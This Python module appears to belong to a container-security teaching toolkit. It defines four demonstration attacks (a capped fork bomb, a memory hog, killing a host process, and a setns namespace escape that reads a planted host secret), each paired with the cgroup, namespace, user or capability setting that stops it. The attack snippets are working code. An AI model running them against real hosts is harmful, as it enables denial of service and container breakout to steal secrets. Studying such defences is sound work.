"""Attacks by processes: too many, too big, and on those of the host."""

import contextlib
import signal
import subprocess

from toolkit.core.units import format_binary_bytes
from toolkit.notebook.attacks.attack import Attack, Defence, Target, Verdict
from toolkit.notebook.attacks.files import judge_secret, secret_file

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Generator

    from toolkit.notebook.trial import Ran

_BOMB = 200
_PIDS = 32
_HOG_MIB = 160
_MEMORY_MIB = 48


def _judge_bomb(ran: "Ran", _target: Target) -> Verdict:
    told = f"the cgroup counted {ran.peak_pids} processes at most and refused {ran.refused_forks} forks"
    return Verdict(ran.peak_pids >= _BOMB, told)


FORK_BOMB = Attack(
    "fork bomb",
    f"Makes processes as fast as it can, until the machine has none left for anybody else (here it stops at {_BOMB}).",
    f"""
    made = 0
    try:
        while made < {_BOMB}:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
            made += 1
    except OSError as exc:
        print("fork() = -1", errno.errorcode[exc.errno])
    print(made, "processes made", flush=True)
    time.sleep(0.4)
    """,
    (
        Defence(
            "pids limit",
            f"The cgroup may have {_PIDS} processes (--pids-limit {_PIDS}): the next fork says EAGAIN, in here only.",
            on={"pids_limit": _PIDS},
        ),
    ),
    _judge_bomb,
    "A container has no limit on processes unless it is given one: only the arena's own outer limit stands above it.",
    see="cgroups(7) pids, fork(2) EAGAIN",
)


def _judge_hog(ran: "Ran", _target: Target) -> Verdict:
    has_it = f"{_HOG_MIB} MiB are mine" in ran.output
    kills = f"{ran.oom_kills} killed (OOM)" if ran.oom_kills else "nobody killed"
    return Verdict(has_it, f"the cgroup had {format_binary_bytes(ran.peak_memory_bytes)} at most; {kills}")


MEMORY_HOG = Attack(
    "memory hog",
    f"Takes memory and touches every page of it, until others are killed for want of it (here {_HOG_MIB} MiB).",
    f"""
    held = []
    for taken in range(8, {_HOG_MIB} + 1, 8):
        held.append(b"x" * (8 << 20))
        if taken % 32 == 0:
            print(taken, "MiB", flush=True)
            time.sleep(0.06)
    print("{_HOG_MIB} MiB are mine", flush=True)
    time.sleep(0.2)
    """,
    (
        Defence(
            "memory limit",
            f"At {_MEMORY_MIB} MiB (--memory {_MEMORY_MIB}m) the kernel kills somebody of this cgroup only.",
            on={"memory_bytes": _MEMORY_MIB << 20, "memory_swap_bytes": _MEMORY_MIB << 20},
        ),
    ),
    _judge_hog,
    "Without a limit a container's memory is the machine's: who is killed when it runs out may be anybody.",
    see="cgroups(7) memory, proc_pid_oom_score(5)",
)


# A process of the host's


@contextlib.contextmanager
def _neighbour() -> "Generator[Target]":
    """Have a process of the host's that does nothing."""
    sleeper = subprocess.Popen(["sleep", "60"])

    def look() -> str:
        code = sleeper.poll()
        state = f"was killed by {signal.Signals(-code).name}" if code and code < 0 else "is alive"
        return f"the host's process {sleeper.pid} {state}"

    try:
        yield Target((str(sleeper.pid),), "", look)
    finally:
        sleeper.kill()
        sleeper.wait()


def _judge_neighbour(_ran: "Ran", target: Target) -> Verdict:
    told = target.look()
    return Verdict("was killed" in told, told)


_PID_NAMESPACE = Defence(
    "pid namespace",
    "In its own pid namespace the container's processes have numbers of their own, and the host's have none.",
    off={"pid_mode": "host"},
)

KILL_A_NEIGHBOUR = Attack(
    "kill a process of the host's",
    "Sends SIGKILL to a process of the host's (a harmless one, started to be the victim).",
    """
    victim = int(sys.argv[1])
    print(len([name for name in os.listdir("/proc") if name.isdigit()]), "processes to be seen")
    os.kill(victim, 9)
    print("killed", victim)
    """,
    (
        _PID_NAMESPACE,
        Defence(
            "not root",
            "A plain user (--user 1000) may send signals to his own processes only: kill says EPERM.",
            on={"user": "1000"},
            is_usual=False,
        ),
    ),
    _judge_neighbour,
    "It can be named, and root of the container is root: kill asks for no more.",
    _neighbour,
    "pid_namespaces(7), kill(2)",
)


@contextlib.contextmanager
def _host_and_secret() -> "Generator[Target]":
    """Have a process of the host's by which its namespaces can be found, and a file there."""
    with _neighbour() as process, secret_file() as file:
        yield file._replace(words=(*process.words, *file.words))


ENTER_THE_HOST = Attack(
    "enter the host's namespaces",
    "Opens the mount namespace of a host's process in /proc, joins it with setns, and reads a file there. (nsenter -t "
    "PID -m; what --privileged --pid=host is for.)",
    """
    victim, path = sys.argv[1:]
    fd = os.open(f"/proc/{victim}/ns/mnt", os.O_RDONLY)
    result, why = call("setns", fd, 0x00020000)
    print("setns(fd, CLONE_NEWNS) =", result, why, flush=True)
    if result == 0:
        print("the host's secret:", open(path).read())
    """,
    (
        _PID_NAMESPACE,
        Defence(
            "few capabilities",
            "Without CAP_SYS_PTRACE it may not open another's namespaces, nor join them without CAP_SYS_ADMIN.",
            off={"cap_add": ("SYS_ADMIN", "SYS_PTRACE")},
        ),
    ),
    judge_secret,
    "It sees the host's processes and has the two capabilities that setns asks for: nothing divides it from the host.",
    _host_and_secret,
    "setns(2), ptrace(2) access mode",
)
